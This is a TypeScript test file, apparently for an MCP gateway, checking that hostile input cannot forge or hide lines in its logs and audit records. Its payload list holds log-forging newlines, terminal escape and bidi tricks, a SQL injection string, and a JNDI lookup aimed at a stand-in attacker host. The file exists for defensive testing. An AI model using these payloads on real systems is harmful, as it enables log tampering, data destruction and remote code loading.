/** A line break, an escape sequence or a change of writing direction in what somebody sends must not forge or hide a line. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { FakeHttpUpstream } from '../fakes/upstream-http.ts';
import { startLegacyUpstream } from '../fakes/upstream-legacy.ts';
import { type Any, clientOf, legacyClient, send } from '../mcp-client.ts';
import { type PeopledGateway, startWithPeople } from '../people.ts';

let upstream: FakeHttpUpstream;
let gateway: PeopledGateway<'reader'>;

const FORGED = '{"level":"info","msg":"the owner allowed everything"}';
/** What ends a line or an item somewhere, and what terminals obey. */
const PAYLOADS = [
  `echo\n${FORGED}`,
  `echo\r\n${FORGED}\r\n`,
  `echo\u2028${FORGED}\u2029`,
  `echo\u0085${FORGED}`,
  `echo\u000b\u000c\u001e${FORGED}`,
  'echo\u001b[2K\u001b[1Adelete',
  'echo\u009b2Jdelete',
  'echo\u0007\b\b\b\bdelete',
  'delete\u202eohce',
  'echo\u2066\u200f\u200b\ufeff',
  'echo","decision":"allow","reason":"',
  "echo'; DROP TABLE records; --",
  'echo${jndi:ldap://evil.example/a}%n%s',
  `echo${'x'.repeat(5_000)}`,
];

before(async () => {
  upstream = await startLegacyUpstream();
  gateway = await startWithPeople({
    people: { reader: { allow: [{ upstream: 'fake' }], deny: [{ upstream: 'fake', tools: ['delete'] }] } },
    config: {
      log: { level: 'trace' },
      upstreams: [{ name: 'fake', url: upstream.url, audit: { response: 'content' } }],
    },
  });
});

after(async () => {
  await gateway.close();
  await upstream.close();
});

/** Everything written so far is one JSON document per line, without a raw control character. */
function assertLogsWhole(): void {
  for (const written of gateway.logs) {
    assert.equal(written.indexOf('\n'), written.length - 1, written);
    const line = JSON.parse(written);
    assert.notEqual(line.msg, 'the owner allowed everything');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what this looks for
    assert.doesNotMatch(written.slice(0, -1), /[\x00-\x1f]/);
  }
}

/** What the audit log says, with everything in it that has happened so far. */
async function audited(query: string): Promise<Any> {
  const flushed = await gateway.admin('POST', '/audit/checkpoints');
  assert.ok(flushed.status < 300, JSON.stringify(flushed.body));
  return (await gateway.admin('GET', `/audit/${query}`)).body;
}

const records = async (requestId: string): Promise<Any[]> =>
  (await audited('events?limit=50')).items.filter((item: Any) => item.requestId === requestId);

for (const era of ['modern', 'legacy'] as const) {
  test(`${era}: a name full of tricks makes one audit record, which holds it as data`, async () => {
    const client = await clientOf(era, `${gateway.url}/mcp`, gateway.keys.reader);
    for (const payload of PAYLOADS) {
      for (const [method, params] of [
        ['tools/call', { name: `fake__${payload}` }],
        ['prompts/get', { name: `fake__${payload}` }],
        ['resources/read', { uri: `test://${payload}` }],
      ] as const) {
        const { message } = await client.request(method, params);
        assert.ok([-32602, -32002].includes(message.error.code), JSON.stringify(message));
        const found = await records(message.error.data.requestId);
        assert.equal(found.length, 1, `${method} ${JSON.stringify(payload)}`);
        assert.equal(found[0].decision, 'deny');
        assert.equal(found[0].target, Object.values(params)[0]!.slice(0, 512));
      }
    }
    assertLogsWhole();
  });
}

test('arguments and results full of tricks stay in their one record, and pass to the upstream unchanged', async () => {
  const client = await clientOf('legacy', `${gateway.url}/mcp/fake`, gateway.keys.reader);
  for (const payload of PAYLOADS.slice(0, -1)) {
    const { message } = await client.request('tools/call', { name: 'echo', arguments: { text: payload } });
    assert.equal(message.result.content[0].text, payload);
    const [record] = (await audited('events?limit=1&tool=echo&decision=allow')).items;
    assert.equal(record.arguments.text, payload);
    assert.equal(record.response.result.content[0].text, payload);
  }
  assertLogsWhole();
});

test('tricks in headers, paths and client names are logged and recorded as data, too', async () => {
  const name = `client\n${FORGED}`;
  await legacyClient(`${gateway.url}/mcp/fake`, gateway.keys.reader, { name });
  for (const path of ['/mcp/fake%0a%0dforged', '/mcp/%1b%5b2K', '/mcp/x?y=%0aforged']) {
    const reply = await send(gateway.url + path, { body: {}, headers: { authorization: 'Bearer x%0ay' } });
    assert.ok([401, 404].includes(reply.status));
  }
  assertLogsWhole();
});

test('what an upstream says about its own failure is one log line', async () => {
  const before = gateway.logs.length;
  for (const payload of PAYLOADS.slice(0, -1)) {
    upstream.behaviour.errors.set('prompts/list', { code: -1, message: payload });
    upstream.behaviour.tools.push({ definition: { name: payload, inputSchema: {} }, call: () => ({}) });
    upstream.announce('notifications/tools/list_changed');
  }
  upstream.behaviour.errors.set('prompts/list', { code: -1, message: PAYLOADS[0]! });
  const until = performance.now() + 10_000;
  while (
    !gateway.logs.slice(before).some((line) => line.includes('prompts/list') && line.includes('entries were left'))
  ) {
    if (gateway.logs.slice(before).some((line) => line.includes('could not be loaded'))) break;
    if (performance.now() > until) assert.fail('nothing was logged');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  assertLogsWhole();
});

test('the export, line by line, is what was recorded', async () => {
  const lines = String(await audited('export'))
    .split('\n')
    .filter((line) => line !== '');
  assert.ok(lines.length > PAYLOADS.length);
  for (const line of lines) assert.doesNotThrow(() => JSON.parse(line), line.slice(0, 200));
});
